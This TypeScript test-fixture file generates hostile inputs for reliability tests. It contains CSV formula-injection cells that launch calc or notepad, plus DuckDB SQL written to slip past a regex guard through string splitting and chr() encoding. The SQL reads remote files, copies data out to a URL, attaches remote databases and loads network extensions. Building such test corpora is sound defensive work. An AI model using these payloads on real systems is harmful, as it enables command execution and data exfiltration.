/**
 * The bad-input corpus, generated (never committed as binaries): every hostile input and fault the
 * reliability tests use, by issue 12's rows. Each generator is pure and deterministic.
 */

/** Cell values a spreadsheet would run as formulas (OWASP's CSV injection list, and its variants). */
export const formulaCells: readonly string[] = [
  "=1+1",
  '=HYPERLINK("http://203.0.113.1/x","click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=cmd|"/c notepad"!A1, with "quotes"'
];

/**
 * SQL that tries to reach another host, the URL built at run time so no text filter can see it
 * (the ways issue 12 found through the old regex guard, and more). `port`: a local server that
 * stands for the remote host and must receive nothing.
 */
export function remoteSqlStatements(port: number): string[] {
  const host = `127.0.0.1:${port}`;
  const chr = (text: string) => [...text].map((c) => `chr(${c.charCodeAt(0)})`).join(" || ");
  return [
    `SELECT * FROM read_csv('htt' || 'p://${host}/x.csv')`,
    `SELECT * FROM read_csv(concat('http', '://', '${host}', '/x.csv'))`,
    `SELECT * FROM read_csv(${chr("http")} || '://${host}/x.csv')`,
    `SELECT * FROM read_csv('s3' || '://bucket/x.csv')`,
    `SELECT * FROM read_csv_auto(lower('HTTP://${host.toUpperCase()}/x.csv'))`,
    `SELECT * FROM read_parquet('http://${host}/x.parquet')`,
    `SELECT * FROM read_text('http://${host}/x.csv')`,
    `SELECT * FROM read_blob('http://${host}/x.csv')`,
    `ATTACH 'http://${host}/db.duckdb' AS remote`,
    `COPY (SELECT 1) TO 'http://${host}/out.csv'`,
    `LOAD httpfs`,
    `INSTALL httpfs`,
    `SET custom_extension_repository = 'http://${host}'`,
    `SET disabled_filesystems = ''`
  ];
}
